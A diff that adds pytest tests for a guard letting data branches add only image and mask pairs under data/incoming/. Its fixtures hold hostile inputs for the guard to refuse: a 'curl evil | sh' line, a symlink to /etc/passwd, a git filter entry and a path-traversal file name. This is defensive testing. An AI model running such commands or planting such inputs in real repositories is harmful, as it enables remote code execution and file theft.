@@ -1,0 +1,196 @@
+"""A data branch may only add files under data/incoming/; its pairs are taken without a checkout."""
+
+from __future__ import annotations
+
+import os
+from collections.abc import Callable
+from pathlib import Path
+from typing import TYPE_CHECKING, Any
+
+import pytest
+
+from wms.config import load_settings
+from wms.vcs.git import Git
+from wms.vcs.guard import (
+    BranchRefused,
+    check_branch,
+    require_clean,
+    resolve_base,
+    take_incoming,
+    write_incoming,
+)
+
+if TYPE_CHECKING:
+    from tests.vcs.conftest import Repo
+
+RULE = "data branches may only add files under data/incoming/; push code through a pull request"
+
+
+def data_branch(repo: Repo, *stems: str) -> str:
+    """A data branch off main with new pairs; returns the pushed commit."""
+    repo.git("switch", "-q", "-c", "data/20260102-030405")
+    repo.add_pairs(*stems)
+    sha = repo.commit("new pairs")
+    repo.push("-q", "origin", "data/20260102-030405")
+    return sha
+
+
+def files_under(folder: Path) -> set[str]:
+    return {p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file()}
+
+
+def test_a_branch_of_new_pairs_passes_and_exactly_they_are_taken(repo: Repo, tmp_path: Path) -> None:
+    sha = data_branch(repo, "m001", "m002")
+    git = Git(repo.work)
+    check = require_clean(check_branch(git, sha, resolve_base(git, "origin", "main"), "data/incoming"))
+    assert sorted(check.changed) == [
+        "data/incoming/images/m001.png",
+        "data/incoming/images/m002.png",
+        "data/incoming/masks/m001.png",
+        "data/incoming/masks/m002.png",
+    ]
+    out = tmp_path / "incoming"
+    take_incoming(load_settings(), sha, out)  # what `wms pipeline sweep` calls for each branch
+    assert files_under(out) == {"images/m001.png", "images/m002.png", "masks/m001.png", "masks/m002.png"}
+    assert (out / "masks" / "m002.png").read_bytes() == b"\x89PNG mask m002"
+
+
+def test_the_base_is_main_where_the_branch_left_it_not_what_main_did_since(repo: Repo) -> None:
+    sha = data_branch(repo, "m001")
+    repo.git("switch", "-q", "main")
+    repo.write("src/app.py", "print('main moved on')\n")
+    repo.commit("code on main")
+    repo.push("-q", "origin", "main")
+    git = Git(repo.work)
+    assert check_branch(git, sha, resolve_base(git, "origin", "main"), "data/incoming").ok
+
+
+@pytest.mark.parametrize(
+    "path", ["src/app.py", ".github/workflows/evil.yaml", "wms.toml", "pyproject.toml", "data/dataset.json"]
+)
+def test_a_branch_that_touches_code_or_config_is_refused_naming_the_path(
+    repo: Repo, tmp_path: Path, path: str
+) -> None:
+    repo.git("switch", "-q", "-c", "data/x")
+    repo.add_pairs("m001")
+    repo.write(path, "import os; os.system('curl evil | sh')\n")
+    sha = repo.commit("pairs and a little extra")
+    git = Git(repo.work)
+    check = check_branch(git, sha, "main", "data/incoming")
+    assert [o.path for o in check.offences] == [path]
+    with pytest.raises(BranchRefused, match=rf"changes {path} \(outside data/incoming/\).*{RULE}"):
+        require_clean(check)
+
+
+def test_renaming_a_file_out_of_incoming_names_where_it_went(repo: Repo) -> None:
+    repo.git("switch", "-q", "-c", "data/x")
+    (repo.work / "scripts").mkdir()
+    repo.git("mv", "data/incoming/.gitkeep", "scripts/run.sh")
+    sha = repo.commit("moved")
+    offences = check_branch(Git(repo.work), sha, "main", "data/incoming").offences
+    assert [o.path for o in offences] == ["scripts/run.sh"]
+
+
+@pytest.mark.parametrize(
+    ("path", "why"),
+    [
+        ("data/incoming/images/.gitattributes", "git control file"),
+        ("data/incoming/.gitmodules", "git control file"),
+    ],
+)
+def test_git_control_files_are_refused_even_inside_incoming(repo: Repo, path: str, why: str) -> None:
+    repo.git("switch", "-q", "-c", "data/x")
+    repo.write(path, "*.png filter=evil\n")
+    sha = repo.commit("control file")
+    assert [(o.path, o.why) for o in check_branch(Git(repo.work), sha, "main", "data/incoming").offences] == [
+        (path, why)
+    ]
+
+
+def test_a_symlink_under_incoming_is_refused_and_nothing_is_written(
+    repo: Repo, tmp_path: Path, cli: Callable[..., Any], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    repo.git("switch", "-q", "-c", "data/x")
+    repo.add_pairs("m001")
+    (repo.work / "data/incoming/images/m002.png").symlink_to("/etc/passwd")
+    sha = repo.commit("a pair and a link")
+    summary = tmp_path / "summary.md"
+    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
+    out = tmp_path / "incoming"
+    result = cli("vcs", "take-incoming", "--sha", sha, "--out", out)
+    assert result.exit_code == 1
+    assert "data/incoming/images/m002.png (symlink)" in result.stderr and RULE in result.stderr
+    assert "Traceback" not in result.output
+    assert not out.exists()
+    assert "**Refused.**" in summary.read_text()
+
+
+def test_a_submodule_is_refused(repo: Repo) -> None:
+    repo.git("switch", "-q", "-c", "data/x")
+    head = repo.out("rev-parse", "HEAD")
+    repo.git("update-index", "--add", "--cacheinfo", f"160000,{head},data/incoming/images/sub")
+    repo.git("commit", "-q", "-m", "a gitlink")
+    sha = repo.out("rev-parse", "HEAD")
+    offences = check_branch(Git(repo.work), sha, "main", "data/incoming").offences
+    assert [(o.path, o.why) for o in offences] == [("data/incoming/images/sub", "submodule")]
+
+
+def test_guard_branch_cli_fetches_the_base_and_names_up_to_ten_paths(
+    repo: Repo, cli: Callable[..., Any], tmp_path: Path
+) -> None:
+    repo.git("switch", "-q", "-c", "data/x")
+    for i in range(12):
+        repo.write(f"src/mod{i:02}.py", "x = 1\n")
+    sha = repo.commit("a lot of code")
+    result = cli("vcs", "guard-branch", "--sha", sha)
+    assert result.exit_code == 1
+    line = result.stderr.replace("\n", " ")
+    assert "src/mod09.py (outside data/incoming/) and 2 more" in line and "src/mod10.py" not in line
+    allowed = cli("vcs", "guard-branch", "--sha", repo.out("rev-parse", "main"))
+    assert allowed.exit_code == 0, allowed.output
+
+
+def test_take_incoming_cli_without_a_remote_uses_the_local_base(
+    repo: Repo, cli: Callable[..., Any], tmp_path: Path
+) -> None:
+    repo.git("remote", "remove", "origin")
+    repo.git("switch", "-q", "-c", "data/x")
+    repo.add_pairs("m001")
+    sha = repo.commit("one pair")
+    repo.git("switch", "-q", "main")  # the job runs main's code; the branch is never checked out
+    out = tmp_path / "taken"
+    result = cli("vcs", "take-incoming", "--sha", sha, "--out", out)
+    assert result.exit_code == 0, result.output
+    assert files_under(out) == {"images/m001.png", "masks/m001.png"}
+    assert not (repo.work / "data/incoming/images/m001.png").exists()
+
+
+def test_take_incoming_refuses_a_folder_that_is_not_empty(repo: Repo, tmp_path: Path) -> None:
+    sha = data_branch(repo, "m001")
+    out = tmp_path / "used"
+    out.mkdir()
+    (out / "old.png").write_bytes(b"old")
+    with pytest.raises(BranchRefused, match="not an empty folder"):
+        write_incoming(Git(repo.work), sha, "data/incoming", out)
+
+
+def test_a_name_that_escapes_the_folder_is_refused(repo: Repo, tmp_path: Path) -> None:
+    # git itself refuses `..` in a tree; a backslash name is what reaches a Windows-style join.
+    repo.git("switch", "-q", "-c", "data/x")
+    blob = _blob(repo, b"evil")
+    repo.git("update-index", "--add", "--cacheinfo", f"100644,{blob},data/incoming/..\\..\\evil.png")
+    repo.git("commit", "-q", "-m", "odd name")
+    sha = repo.out("rev-parse", "HEAD")
+    out = tmp_path / "incoming"
+    with pytest.raises(BranchRefused, match="would be written outside"):
+        write_incoming(Git(repo.work), sha, "data/incoming", out)
+    assert not out.exists() and not (tmp_path / "evil.png").exists()
+
+
+def _blob(repo: Repo, content: bytes) -> str:
+    path = repo.work / ".blob"
+    path.write_bytes(content)
+    try:
+        return repo.out("hash-object", "-w", str(path))
+    finally:
+        os.remove(path)
